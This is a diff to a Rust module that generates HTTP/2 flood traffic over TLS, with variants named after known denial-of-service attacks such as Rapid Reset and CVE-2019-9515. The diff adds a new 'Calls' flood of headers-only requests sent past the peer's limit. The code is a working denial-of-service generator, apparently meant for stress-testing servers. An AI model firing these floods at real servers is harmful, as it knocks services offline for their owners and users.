@@ -30,12 +30,14 @@ pub(crate) enum Flood {
     Ping,
     /// Settings to be acknowledged (CVE-2019-9515).
     Settings,
+    /// Calls without a message, far more than anybody may make, each of which waits for its refusal.
+    Calls,
 }
 
 impl Flood {
     /// All of them.
-    pub(crate) const ALL: [Self; 6] =
-        [Self::RapidReset, Self::MadeYouReset, Self::Continuation, Self::EmptyData, Self::Ping, Self::Settings];
+    pub(crate) const ALL: [Self; 7] =
+        [Self::RapidReset, Self::MadeYouReset, Self::Continuation, Self::EmptyData, Self::Ping, Self::Settings, Self::Calls];
 
     /// One word for each.
     pub(crate) const fn word(self) -> &'static str {
@@ -46,6 +48,7 @@ impl Flood {
             Self::EmptyData => "empty_data",
             Self::Ping => "ping",
             Self::Settings => "settings",
+            Self::Calls => "calls",
         }
     }
 }
@@ -139,6 +142,10 @@ pub(crate) async fn flood(stream: TlsStream<TcpStream>, kind: Flood, end: Instan
                 Flood::MadeYouReset => {
                     frame(&mut bytes, HEADERS, END_HEADERS, stream, &header);
                     frame(&mut bytes, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
+                    stream += 2;
+                }
+                Flood::Calls => {
+                    frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, stream, &header);
                     stream += 2;
                 }
                 Flood::Continuation if !begun => frame(&mut bytes, HEADERS, 0, stream, &header),
